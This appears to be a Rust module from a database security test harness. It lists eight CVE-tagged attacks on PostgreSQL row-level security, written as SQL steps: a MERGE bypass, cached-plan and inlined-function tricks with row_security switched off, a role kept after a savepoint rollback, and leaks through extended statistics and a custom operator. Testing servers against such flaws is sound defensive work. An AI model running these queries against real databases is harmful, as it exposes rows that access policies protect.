//! Old server: the known ways past row security on a PostgreSQL below the security floor, tried on the one that is here.

use super::attack::Attack;
use super::attack::Step::Sql;

pub(crate) const ATTACKS: &[Attack] = &[
    Attack::new(
        "P01",
        "CVE-2023-39418: MERGE ignores the policies for UPDATE and SELECT",
        &[Sql(
            "MERGE INTO crm.clients c USING (SELECT '{id_b}'::uuid AS id) s ON c.id = s.id WHEN MATCHED THEN UPDATE SET version = 99",
        )],
    ),
    Attack::new(
        "P02",
        "CVE-2024-10976: a cached plan keeps the policies of another setting, below a CTE",
        &[
            Sql("PREPARE q AS WITH x AS MATERIALIZED (SELECT * FROM crm.clients) SELECT * FROM x; EXECUTE q"),
            Sql("SET LOCAL row_security = off"),
            Sql("EXECUTE q"),
        ],
    ),
    Attack::new(
        "P03",
        "CVE-2024-10976: the same, below a sub-select",
        &[
            Sql("PREPARE q AS SELECT (SELECT string_agg(c::text, ',') FROM crm.clients c); EXECUTE q"),
            Sql("SET LOCAL row_security = off"),
            Sql("EXECUTE q"),
        ],
    ),
    Attack::new(
        "P04",
        "CVE-2023-2455: policies get lost when a function is inlined",
        &[
            Sql(
                "CREATE FUNCTION pg_temp.f() RETURNS SETOF crm.clients LANGUAGE sql STABLE AS 'SELECT * FROM crm.clients'",
            ),
            Sql("PREPARE q AS SELECT * FROM pg_temp.f(); EXECUTE q"),
            Sql("SET LOCAL row_security = off"),
            Sql("EXECUTE q"),
        ],
    ),
    Attack::new(
        "P05",
        "CVE-2024-10978: a role that an aborted sub-transaction set stays",
        &[
            Sql("SAVEPOINT s; SELECT set_config('role', 'none', true); ROLLBACK TO s"),
            Sql("SELECT * FROM crm.clients"),
        ],
    ),
    Attack::new(
        "P06",
        "CVE-2024-4317: extended statistics of other owners' tables",
        &[Sql(
            "SELECT most_common_vals FROM pg_catalog.pg_stats_ext; SELECT most_common_vals FROM pg_catalog.pg_stats_ext_exprs",
        )],
    ),
    Attack::new(
        "P07",
        "CVE-2025-8713: an operator of one's own is handed sampled values",
        &[
            Sql(
                "CREATE FUNCTION public.leak(bytea, bytea) RETURNS boolean LANGUAGE plpgsql AS 'BEGIN RAISE NOTICE ''%'', $1; RETURN true; END'",
            ),
            Sql(
                "CREATE OPERATOR public.<<<< (LEFTARG = bytea, RIGHTARG = bytea, FUNCTION = public.leak, RESTRICT = scalarltsel)",
            ),
            Sql("EXPLAIN SELECT * FROM crm.clients WHERE external_digest OPERATOR(public.<<<<) ''::bytea"),
        ],
    ),
    Attack::new(
        "P08",
        "CVE-2025-12817: statistics objects in a schema where one may create nothing",
        &[Sql(
            "CREATE STATISTICS crm.stolen ON customer_id, version FROM crm.clients",
        )],
    ),
];
